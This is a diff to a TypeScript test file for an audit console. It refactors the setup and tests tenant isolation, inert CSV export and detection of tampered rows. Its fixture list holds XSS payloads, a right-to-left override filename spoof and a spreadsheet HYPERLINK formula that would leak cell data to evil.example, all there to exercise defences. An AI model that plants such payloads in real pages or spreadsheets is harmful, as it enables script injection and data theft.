@@ -3,32 +3,22 @@
 // query (another tenant's records never exported), CSV cells a spreadsheet would run are inert,
 // a row edited in the file is reported for its writer, hostile tool names stay text in the charts.
 import Database from 'better-sqlite3';
-import { mkdtempSync, rmSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
-import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
-import { isAuthFailure, tokenAuthenticator, tokenDigest } from '../mcp/serve/auth.js';
+import { afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { operatorKeyFromSecret } from '../store/operator-key.js';
-import { openSqliteStore } from '../store/sqlite/index.js';
 import { makeAudit } from '../store/test-support/store-suite.js';
-import type { AuditRecord, Store } from '../store/types.js';
+import type { AuditRecord } from '../store/types.js';
 import type { ConsoleOptions } from './console.js';
 import { csvCell } from './export.js';
 import { Agent, serveConsole, type ServedConsole } from './test-support/http-client.js';
+import { storeFileForTests } from './test-support/store-file.js';
+import { tokenVerifier } from './test-support/token-verifier.js';
 
 const key = operatorKeyFromSecret('ab'.repeat(32));
-const dir = mkdtempSync(join(tmpdir(), 'te-console-audit-'));
-const path = join(dir, 'calls.db');
-const auth = tokenAuthenticator({
-  tokens: [
-    { sha256: tokenDigest('viewer-acme'), principal: 'user:vic', tenant: 'acme', roles: ['viewer'] },
-    { sha256: tokenDigest('admin-any'), principal: 'user:ada', roles: ['admin'] },
-  ],
-});
-const verifyToken: ConsoleOptions['verifyToken'] = async (t) => {
-  const who = await auth.authenticate(`Bearer ${t}`);
-  return isAuthFailure(who) ? undefined : who;
-};
+const file = storeFileForTests('te-console-audit-', { chainKey: key });
+const verifyToken = tokenVerifier([
+  { token: 'viewer-acme', principal: 'user:vic', tenant: 'acme', roles: ['viewer'] },
+  { token: 'admin-any', principal: 'user:ada', roles: ['admin'] },
+]);
 
 const HOSTILE_TOOLS = ['<script>alert(1)</script>', '"><svg onload=alert(2)>', '\u202egnp.exe', `=HYPERLINK("http://evil.example/?"&A1)`];
 const now = Date.now();
@@ -37,11 +27,9 @@ const acme = (over: Partial<AuditRecord>): AuditRecord =>
 const globex = (over: Partial<AuditRecord>): AuditRecord =>
   makeAudit({ principalChain: [{ kind: 'user', id: 'g', tenant_id: 'globex' }], startedAt: now - 1_800_000, ...over });
 
-let store: Store;
 let served: ServedConsole | undefined;
 const records: AuditRecord[] = [];
 beforeAll(async () => {
-  store = await openSqliteStore({ path, chainKey: key });
   for (let i = 0; i < 40; i++) {
     records.push(
       acme({
@@ -56,11 +44,7 @@ beforeAll(async () => {
       globex({ tool: 'globex.secret', sessionId: '-2+3', status: 'error', category: 'timeout', errorCode: 'globex-only' }),
     );
   }
-  await store.appendAudit(records);
-});
-afterAll(async () => {
-  await store.close();
-  rmSync(dir, { recursive: true, force: true });
+  await file.store.appendAudit(records);
 });
 afterEach(async () => {
   await served?.close();
@@ -68,7 +52,7 @@ afterEach(async () => {
 });
 
 async function signedIn(token: string, options: Partial<ConsoleOptions> = {}): Promise<Agent> {
-  served = await serveConsole({ store, verifyToken, operatorKey: async () => key, ...options });
+  served = await serveConsole({ store: file.store, verifyToken, operatorKey: async () => key, ...options });
   const a = new Agent(served.url);
   expect((await a.signIn(token)).status).toBe(303);
   return a;
@@ -207,7 +191,7 @@ describe('verify', () => {
 
     // Another process edits a row in the file: a globex call's error code, as someone hiding it would.
     const victim = records.find((r) => r.errorCode === 'globex-only')!;
-    const db = new Database(path);
+    const db = new Database(file.path);
     expect(db.prepare("UPDATE audit SET error_code = 'nothing-to-see' WHERE id = ?").run(victim.id).changes).toBe(1);
     db.close();
     // Without its CSRF token the POST is refused.
